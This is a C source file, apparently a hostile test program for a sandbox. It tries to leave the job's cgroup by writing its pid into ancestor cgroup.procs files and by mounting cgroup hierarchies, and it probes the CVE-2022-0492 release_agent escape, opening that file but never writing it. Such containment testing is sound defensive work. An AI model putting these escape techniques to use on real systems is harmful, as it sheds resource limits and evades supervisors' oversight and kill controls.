/* cgroup_escape [--force] [CGROUP_DIR...]: try to leave the job's cgroup, which would shed
 * its memory, pids and CPU limits and hide from the supervisor's cgroup-based kill.
 *
 * Attacks, each reported on its own line:
 *  - cgroup_view: what /proc/self/cgroup shows. In a cgroup namespace every path is "/";
 *    without one the host's cgroup path of the job leaks (and names the tree to attack).
 *  - cgroup_fs: is a cgroup filesystem visible at /sys/fs/cgroup at all?
 *  - cgroup_write: write our pid into cgroup.procs of every ancestor of our cgroup, of the
 *    root of each visible hierarchy and of its first level, and of each CGROUP_DIR given
 *    (a test that binds the host's cgroup tree passes the job cgroup's parents: inside a
 *    cgroup namespace the program cannot name them itself). Moving a process needs write
 *    access to cgroup.procs of the common ancestor of both cgroups, so a cell must see no
 *    writable cgroup tree above its own.
 *  - cgroup_mount: mount cgroup2, and cgroup v1 hierarchies (rdma, memory), on a fresh
 *    directory. In a user namespace with its own cgroup namespace a mount can succeed.
 *  - cgroup_release_agent: on a freshly mounted v1 hierarchy, can release_agent be opened
 *    for writing? CVE-2022-0492: a v1 release_agent runs as root on the host when a cgroup
 *    empties, so writing it is a full escape. Only opened, never written.
 * Then cgroup_escape compares /proc/self/cgroup with the start: a path that is not the old
 * one or below it means the process now lives outside the job's cgroup.
 *
 * Expected in a cell: cgroup_view NAMESPACED; cgroup_fs ENOENT (no /sys in the cell) or every
 * write EACCES/EROFS/EPERM; every mount EPERM; cgroup_escape CONTAINED.
 *
 * Output: RESULT cgroup_view NAMESPACED|VISIBLE <lines of /proc/self/cgroup joined by ';'>
 *         RESULT cgroup_fs OK|<errno> path=/sys/fs/cgroup
 *         RESULT cgroup_write OK|<errno> path=<cgroup.procs>
 *         RESULT cgroup_mount OK|<errno> type=<cgroup2|cgroup> opts=<controller|->
 *         RESULT cgroup_release_agent OPENED|<errno> path=<release_agent>   (v1 mounts only)
 *         RESULT cgroup_escape CONTAINED|ESCAPED writes_ok=<n> mounts_ok=<n> now=<cgroup lines>
 *
 * As root on a host it would move itself to the root cgroups: it refuses to run as root in
 * the host's initial pid namespace unless given --force. Unprivileged it is harmless.
 */
#include "hostile.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>

#define MAX_LINES 32
#define MAX_TARGETS 256

struct line {
    char controllers[128];
    char path[1024];
};

static int read_cgroup_lines(struct line *lines, int max, char *joined, size_t joined_size)
{
    FILE *f = fopen("/proc/self/cgroup", "re");
    if (!f)
        return -errno;
    int n = 0;
    size_t len = 0;
    joined[0] = '\0';
    char buf[2048];
    while (n < max && fgets(buf, sizeof buf, f)) {
        buf[strcspn(buf, "\n")] = '\0';
        int w = snprintf(joined + len, joined_size - len, "%s%s", len ? ";" : "", buf);
        if (w > 0 && (size_t)w < joined_size - len)
            len += (size_t)w;
        /* "hierarchy-id:controller-list:path" */
        char *c1 = strchr(buf, ':');
        char *c2 = c1 ? strchr(c1 + 1, ':') : NULL;
        if (!c2)
            continue;
        *c2 = '\0';
        snprintf(lines[n].controllers, sizeof lines[n].controllers, "%s", c1 + 1);
        snprintf(lines[n].path, sizeof lines[n].path, "%s", c2 + 1);
        n++;
    }
    fclose(f);
    return n;
}

#define TARGET_LEN 1700 /* a hierarchy dir (< 512) + a cgroup path (< 1024) + "/cgroup.procs" */
static char targets[MAX_TARGETS][TARGET_LEN];
static int ntargets;

static void add_target(const char *dir)
{
    char path[TARGET_LEN];
    snprintf(path, sizeof path, "%.1600s/cgroup.procs", dir);
    for (int i = 0; i < ntargets; i++)
        if (strcmp(targets[i], path) == 0)
            return;
    if (ntargets < MAX_TARGETS)
        snprintf(targets[ntargets++], sizeof targets[0], "%s", path);
}

/* open + write our pid; 0 or an errno. */
static int write_pid(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    char buf[32];
    int n = snprintf(buf, sizeof buf, "%d\n", (int)getpid());
    int err = write(fd, buf, (size_t)n) == n ? 0 : errno;
    close(fd);
    return err;
}

/* Where the hierarchy of one /proc/self/cgroup line is mounted in the usual layouts. */
static void hierarchy_dir(const char *controllers, char *out, size_t size)
{
    if (controllers[0] == '\0') { /* v2 */
        if (access("/sys/fs/cgroup/cgroup.controllers", F_OK) == 0)
            snprintf(out, size, "/sys/fs/cgroup");
        else
            snprintf(out, size, "/sys/fs/cgroup/unified");
    } else if (strncmp(controllers, "name=", 5) == 0) {
        snprintf(out, size, "/sys/fs/cgroup/%.120s", controllers + 5);
    } else {
        snprintf(out, size, "/sys/fs/cgroup/%.120s", controllers);
    }
}

/* Is now equal to or below before? */
static int within(const char *before, const char *now)
{
    size_t n = strlen(before);
    if (strcmp(before, "/") == 0)
        return now[0] == '/' && strncmp(now, "/..", 3) != 0;
    return strncmp(before, now, n) == 0 && (now[n] == '\0' || now[n] == '/');
}

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        if (strcmp(argv[i], "--force") != 0 && argv[i][0] != '/')
            usage("cgroup_escape [--force] [CGROUP_DIR...]   (as root, refuses the host's pid "
                  "namespace without --force; CGROUP_DIR absolute)");
    if (geteuid() == 0)
        refuse_on_host("cgroup_escape", argc, argv, "pid");

    static struct line start[MAX_LINES], end[MAX_LINES];
    static char joined[8192];
    int nstart = read_cgroup_lines(start, MAX_LINES, joined, sizeof joined);
    if (nstart < 0) {
        result("cgroup_view", errno_name(-nstart), "path=/proc/self/cgroup");
        nstart = 0;
    } else {
        int all_root = 1;
        for (int i = 0; i < nstart; i++)
            all_root &= strcmp(start[i].path, "/") == 0;
        result("cgroup_view", all_root ? "NAMESPACED" : "VISIBLE", "%s", joined);
    }

    int writes_ok = 0, mounts_ok = 0;
    struct stat st;
    int fs_err = stat("/sys/fs/cgroup", &st) == 0 ? 0 : errno;
    result_errno("cgroup_fs", fs_err, "path=/sys/fs/cgroup");
    if (!fs_err) {
        /* Ancestors of our own cgroup in each hierarchy, from the parent up to the root. */
        for (int i = 0; i < nstart; i++) {
            char base[512], dir[1600];
            hierarchy_dir(start[i].controllers, base, sizeof base);
            char path[1024];
            snprintf(path, sizeof path, "%s", start[i].path);
            for (;;) {
                char *slash = strrchr(path, '/');
                if (!slash)
                    break;
                *slash = '\0';
                snprintf(dir, sizeof dir, "%s%s", base, path);
                add_target(dir);
                if (path[0] == '\0')
                    break;
            }
        }
        /* The directories we were told about (the job's parents, seen through a bind). */
        for (int i = 1; i < argc; i++)
            if (argv[i][0] == '/')
                add_target(argv[i]);
        /* The root of everything visible, and its first level. */
        add_target("/sys/fs/cgroup");
        DIR *d = opendir("/sys/fs/cgroup");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            if (e->d_name[0] == '.')
                continue;
            char dir[600];
            snprintf(dir, sizeof dir, "/sys/fs/cgroup/%s", e->d_name);
            if (stat(dir, &st) == 0 && S_ISDIR(st.st_mode))
                add_target(dir);
        }
        if (d)
            closedir(d);
        for (int i = 0; i < ntargets; i++) {
            struct stat tst;
            if (stat(targets[i], &tst) < 0 && errno == ENOENT)
                continue; /* a directory that is not a cgroup (e.g. the v1 tmpfs itself) */
            int err = write_pid(targets[i]);
            writes_ok += err == 0;
            result_errno("cgroup_write", err, "path=%s", targets[i]);
        }
    }

    /* Mount our own view of the hierarchies. */
    char mnt[] = "/tmp/cgroup_escape.XXXXXX";
    if (!mkdtemp(mnt)) {
        result("cgroup_mount", errno_name(errno), "step=mkdtemp dir=/tmp");
    } else {
        static const struct {
            const char *type, *opts;
        } tries[] = {{"cgroup2", NULL}, {"cgroup", "rdma"}, {"cgroup", "memory"}};
        for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
            int err = mount("cgroup", mnt, tries[i].type, MS_NOSUID | MS_NODEV | MS_NOEXEC,
                            tries[i].opts) == 0 ? 0 : errno;
            result_errno("cgroup_mount", err, "type=%s opts=%s", tries[i].type,
                         tries[i].opts ? tries[i].opts : "-");
            if (err)
                continue;
            mounts_ok++;
            char path[256];
            snprintf(path, sizeof path, "%s/cgroup.procs", mnt);
            err = write_pid(path);
            writes_ok += err == 0;
            result_errno("cgroup_write", err, "path=%s mounted=%s", path, tries[i].type);
            if (strcmp(tries[i].type, "cgroup") == 0) {
                snprintf(path, sizeof path, "%s/release_agent", mnt);
                int fd = open(path, O_WRONLY | O_CLOEXEC);
                if (fd >= 0) {
                    result("cgroup_release_agent", "OPENED", "path=%s (not written)", path);
                    close(fd);
                } else {
                    result("cgroup_release_agent", errno_name(errno), "path=%s", path);
                }
            }
            umount2(mnt, MNT_DETACH);
        }
        rmdir(mnt);
    }

    int nend = read_cgroup_lines(end, MAX_LINES, joined, sizeof joined);
    int escaped = 0;
    for (int i = 0; i < nend && i < nstart; i++)
        if (!within(start[i].path, end[i].path))
            escaped = 1;
    result("cgroup_escape", escaped ? "ESCAPED" : "CONTAINED", "writes_ok=%d mounts_ok=%d now=%s",
           writes_ok, mounts_ok, nend < 0 ? "?" : joined);
    return 0;
}
